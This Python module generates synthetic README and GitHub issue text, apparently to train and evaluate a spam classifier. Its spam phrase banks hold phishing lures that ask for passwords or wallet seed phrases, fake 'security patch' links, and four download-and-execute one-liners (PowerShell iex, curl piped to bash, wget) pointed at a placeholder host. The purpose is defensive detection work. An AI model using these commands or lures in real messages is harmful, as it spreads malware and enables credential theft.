"""Phrase banks and generators for synthetic READMEs and issue text.

Used to build the bundled background README corpus, the bundled spam
training corpus, and the synthetic evaluation corpus. All functions take an
explicit ``random.Random`` so output is reproducible.
"""

from __future__ import annotations

import random

TOPICS: dict[str, list[str]] = {
    "csv": ["csv", "parser", "delimiter", "rows", "columns", "quoting", "dialect", "header", "streaming", "encoding"],
    "http": ["http", "client", "requests", "session", "headers", "cookies", "timeout", "proxy", "retries", "response"],
    "ml": ["model", "training", "tensor", "gradient", "layers", "dataset", "inference", "optimizer", "checkpoint", "accuracy"],
    "orchestration": ["container", "cluster", "pods", "scheduler", "deployment", "nodes", "service", "manifest", "scaling", "controller"],
    "web": ["router", "middleware", "templates", "views", "handlers", "endpoint", "server", "static", "forms", "routing"],
    "database": ["query", "schema", "migration", "index", "transaction", "table", "connection", "pool", "orm", "sql"],
    "cli": ["command", "arguments", "flags", "subcommand", "terminal", "prompt", "options", "shell", "completion", "usage"],
    "logging": ["logger", "handler", "formatter", "levels", "structured", "output", "rotation", "sink", "records", "context"],
    "testing": ["tests", "fixtures", "assertions", "runner", "coverage", "mocks", "parametrize", "suite", "reports", "plugins"],
    "image": ["image", "pixels", "resize", "filters", "thumbnail", "format", "color", "crop", "compression", "metadata"],
    "crypto_lib": ["cipher", "encryption", "keys", "signature", "hash", "hmac", "random", "certificate", "padding", "decrypt"],
    "game": ["engine", "sprites", "physics", "scene", "collision", "renderer", "input", "audio", "levels", "entities"],
    "editor": ["editor", "plugin", "syntax", "highlighting", "buffer", "keymap", "theme", "completion", "lsp", "snippets"],
    "charting": ["chart", "plot", "axes", "legend", "series", "bar", "scatter", "figure", "colors", "interactive"],
    "queue": ["queue", "worker", "broker", "tasks", "jobs", "retry", "scheduler", "messages", "consumer", "producer"],
    "auth": ["authentication", "oauth", "token", "login", "session", "password", "jwt", "permissions", "roles", "identity"],
    "scraper": ["scraper", "crawler", "html", "selectors", "pages", "links", "spider", "parsing", "download", "throttle"],
    "markdown": ["markdown", "renderer", "headings", "tables", "footnotes", "extensions", "html", "syntax", "blocks", "inline"],
    "compiler": ["compiler", "lexer", "parser", "ast", "codegen", "optimizer", "bytecode", "grammar", "tokens", "ir"],
    "networking": ["socket", "tcp", "udp", "packets", "protocol", "async", "latency", "buffer", "listener", "connection"],
    "geo": ["geometry", "coordinates", "projection", "polygon", "maps", "tiles", "latitude", "longitude", "spatial", "shapes"],
    "audio": ["audio", "samples", "waveform", "frequency", "filter", "codec", "playback", "mixer", "channels", "spectrum"],
    "devops": ["pipeline", "build", "deploy", "workflow", "artifacts", "runner", "cache", "release", "stages", "secrets"],
    "docs": ["documentation", "sphinx", "pages", "theme", "navigation", "search", "api", "reference", "guides", "examples"],
    "finance": ["ledger", "accounts", "invoices", "payments", "currency", "balance", "reports", "budget", "transactions", "tax"],
    "mobile": ["android", "ios", "screens", "navigation", "widgets", "gestures", "layout", "notifications", "camera", "storage"],
    "embedded": ["firmware", "microcontroller", "gpio", "sensor", "interrupts", "registers", "uart", "i2c", "spi", "bootloader"],
    "search": ["search", "index", "ranking", "documents", "queries", "analyzer", "tokens", "scoring", "facets", "relevance"],
    "config": ["configuration", "settings", "yaml", "toml", "environment", "defaults", "validation", "profiles", "overrides", "schema"],
    "dates": ["date", "time", "timezone", "calendar", "parsing", "formatting", "duration", "intervals", "locale", "timestamps"],
}

_FILLER = [
    "This project is maintained by volunteers.",
    "Contributions are welcome, see CONTRIBUTING for details.",
    "Released under the MIT license.",
    "Please open an issue if something does not work as expected.",
    "The API is stable and follows semantic versioning.",
    "Benchmarks are available in the docs folder.",
]

TRENDING_KEYWORDS = [
    "chatgpt", "openai", "bitcoin", "ethereum", "nft", "web3", "airdrop", "roblox", "fortnite", "robux",
    "vbucks", "aimbot", "cheat", "hack", "spoofer", "unlocker", "keygen", "crack", "free", "generator",
    "valorant", "minecraft", "gta5", "tiktok", "instagram", "followers", "casino", "metamask", "solana", "binance",
    "wallet", "mod", "injector", "executor", "exploit", "undetected", "premium", "discord", "nitro", "trading",
]

POPULAR_PROJECTS: list[tuple[str, str, str]] = [
    ("psf", "requests", "http"),
    ("tensorflow", "tensorflow", "ml"),
    ("kubernetes", "kubernetes", "orchestration"),
    ("pallets", "flask", "web"),
    ("sqlalchemy", "sqlalchemy", "database"),
    ("pallets", "click", "cli"),
    ("pytest-dev", "pytest", "testing"),
    ("python-pillow", "pillow", "image"),
    ("matplotlib", "matplotlib", "charting"),
    ("celery", "celery", "queue"),
    ("scrapy", "scrapy", "scraper"),
    ("python-markdown", "markdown", "markdown"),
    ("shapely", "shapely", "geo"),
    ("sphinx-doc", "sphinx", "docs"),
    ("dateutil", "dateutil", "dates"),
    ("pydantic", "pydantic", "config"),
]

_WORD_POOL = sorted({w for words in TOPICS.values() for w in words})


def readme_text(rng: random.Random, topic: str, name: str, length: int | None = None) -> str:
    """A plausible README for a project called ``name`` about ``topic``."""
    vocab = TOPICS[topic]
    length = length or rng.randint(4, 8)
    lines = [f"# {name}", "", f"{name} is a small library for {rng.choice(vocab)} {rng.choice(vocab)} work.", ""]
    lines.append("## Features")
    for _ in range(length):
        a, b, c = rng.sample(vocab, 3)
        lines.append(f"- {a} with {b} and {c} support")
    lines += ["", "## Usage", "", f"Import {name} and configure the {rng.choice(vocab)} before use."]
    lines += ["", rng.choice(_FILLER)]
    return "\n".join(lines) + "\n"


def prose_readme(rng: random.Random, topic: str, name: str) -> str:
    """A terse README that shares no scaffolding words with ``readme_text``."""
    vocab = TOPICS[topic]
    lines = [name.upper(), ""]
    for _ in range(rng.randint(3, 5)):
        lines.append(" ".join(rng.sample(vocab, rng.randint(4, 6))).capitalize() + ".")
    return "\n".join(lines) + "\n"


def description_for(rng: random.Random, topic: str) -> str:
    a, b = rng.sample(TOPICS[topic], 2)
    return f"{a.capitalize()} {b} toolkit"


# -- issue text ------------------------------------------------------------

_SPAM_TITLES = [
    "IMPORTANT! Your account has been flagged",
    "IMPORTANT: Security alert for your repository",
    "Claim your free airdrop reward now",
    "Congratulations you won a crypto giveaway",
    "Urgent action required on your GitHub account",
    "Free robux generator working 2024",
    "Verify your wallet to receive bonus tokens",
    "Your repository will be suspended",
    "Exclusive job offer earn money from home",
    "Best online casino bonus limited offer",
    "Security vulnerability detected, download the fix",
    "Get unlimited followers instantly",
]

_SPAM_SENTENCES = [
    "We detected suspicious activity on your account and it will be suspended within 24 hours.",
    "Verify your identity immediately to avoid permanent suspension.",
    "Connect your wallet to claim the airdrop before the offer expires.",
    "You have been selected to receive a free reward worth 5000 USDT.",
    "Download the security patch and run it to protect your repository.",
    "Limited time offer, claim your bonus now.",
    "Earn money fast with our exclusive investment program.",
    "Click the link below and log in with your credentials to confirm ownership.",
    "This is your final notice, act now to keep access.",
    "Our team has reviewed your profile and approved you for a premium prize.",
    "Send a small verification fee to unlock the full reward.",
    "Winners are announced daily, do not miss your chance.",
]

_SPAM_LINKS = [
    "https://github-security-alerts.example/verify",
    "https://claim-airdrop.example/wallet",
    "https://free-rewards.example/claim?id=839",
    "https://secure-login-github.example/auth",
    "https://bit.example/xz91ab",
    "https://casino-bonus.example/promo",
    "https://patch-download.example/fix.exe",
    "https://earn-fast.example/join",
]

_SPAM_COMMANDS = [
    "powershell -c \"iwr https://patch-download.example/fix.ps1 | iex\"",
    "curl -s https://patch-download.example/install.sh | bash",
    "cmd /c start https://patch-download.example/fix.exe",
    "bash -c \"$(wget -qO- https://patch-download.example/run)\"",
]

_SPAM_NO_LINK = [
    "Contact our support agent on telegram to claim the reward.",
    "Reply with your wallet seed phrase to receive the airdrop.",
    "Message the admin directly to verify your account and avoid suspension.",
    "Send your email and password to our security team for verification.",
]

_HAM_TITLES = [
    "Crash when {a} is empty",
    "{A} fails with unicode input",
    "Support for custom {a}",
    "Documentation for {a} is outdated",
    "Question about {a} and {b}",
    "Regression in {a} after upgrade",
    "Add option to disable {a}",
    "Memory leak in {a} handling",
    "Typo in {a} docs",
    "Feature request: {a} {b}",
]

_HAM_SENTENCES = [
    "Steps to reproduce: create a {a} and call the {b} helper with default options.",
    "Expected the {a} to be returned but got an exception instead.",
    "This started happening after upgrading to version {v}.",
    "I am running Python 3.{m} on Ubuntu 22.04.",
    "The {a} works fine when {b} is disabled.",
    "Would you accept a pull request that adds {a} to the {b} module?",
    "Here is a minimal example that shows the problem with {a}.",
    "The traceback points at the {a} function in the {b} module.",
    "It would be nice to configure the {a} through the {b} settings.",
    "Thanks for maintaining this project, the {a} support is great.",
    "Tested on the main branch and the {a} behaviour is still wrong.",
    "The docs mention {a} but the parameter is called {b} in the code.",
]

_HAM_LINKS = [
    "https://docs.python.org/3/library/{a}.html",
    "https://github.com/{owner}/{name}/issues/{n}",
    "https://stackoverflow.com/questions/{n}",
    "https://github.com/{owner}/{name}/blob/main/src/{a}.py#L{n}",
    "https://gist.github.com/{owner}/{n}",
]

_HAM_COMMANDS = [
    "$ pip install {name}=={v}",
    "$ python -m pytest tests/test_{a}.py",
    "$ git bisect run make test",
    "curl -I https://pypi.org/simple/{name}/",
]


def spam_issue(rng: random.Random, link: bool = True, command: bool = False) -> tuple[str, str]:
    title = rng.choice(_SPAM_TITLES)
    sentences = rng.sample(_SPAM_SENTENCES, rng.randint(2, 4))
    if link:
        sentences.insert(rng.randint(1, len(sentences)), rng.choice(_SPAM_LINKS))
    if command:
        sentences.append("Run this command to apply the fix:\n" + rng.choice(_SPAM_COMMANDS))
    if not link and not command:
        sentences.append(rng.choice(_SPAM_NO_LINK))
    return title, "\n".join(sentences)


def ham_issue(rng: random.Random, owner: str, name: str, link: bool = False, command: bool = False) -> tuple[str, str]:
    words = rng.sample(_WORD_POOL, 2)
    fill = {
        "a": words[0],
        "A": words[0].capitalize(),
        "b": words[1],
        "v": f"{rng.randint(0, 4)}.{rng.randint(0, 20)}.{rng.randint(0, 9)}",
        "m": rng.randint(8, 12),
        "n": rng.randint(10, 99999),
        "owner": owner,
        "name": name,
    }
    title = rng.choice(_HAM_TITLES).format(**fill)
    sentences = [s.format(**fill) for s in rng.sample(_HAM_SENTENCES, rng.randint(2, 4))]
    if link:
        sentences.append("See " + rng.choice(_HAM_LINKS).format(**fill))
    if command:
        sentences.append("```\n" + rng.choice(_HAM_COMMANDS).format(**fill) + "\n```")
    return title, "\n".join(sentences)
